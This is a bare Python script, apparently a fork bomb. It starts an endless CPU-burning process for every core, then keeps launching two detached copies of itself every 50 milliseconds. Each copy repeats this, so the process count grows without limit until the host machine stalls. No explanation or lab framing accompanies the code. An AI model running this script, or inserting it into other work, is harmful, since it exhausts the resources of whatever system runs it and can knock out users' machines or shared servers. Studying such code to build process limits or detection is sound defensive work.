#!/usr/bin/env python3
import multiprocessing as mp
import os
import subprocess
import sys
import time


def burn():
    x = 0
    while True:
        x = (x * 31 + 7) % 1000003


def spread():
    # each generation launches two more copies of this script
    while True:
        for _ in range(2):
            subprocess.Popen([sys.executable, os.path.abspath(__file__), "--child"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             start_new_session=True)
        time.sleep(0.05)


if __name__ == "__main__":
    if "--child" not in sys.argv:
        print(f"cores: {os.cpu_count()}  starting...")
    for _ in range(os.cpu_count() or 2):
        mp.Process(target=burn, daemon=False).start()
    spread()
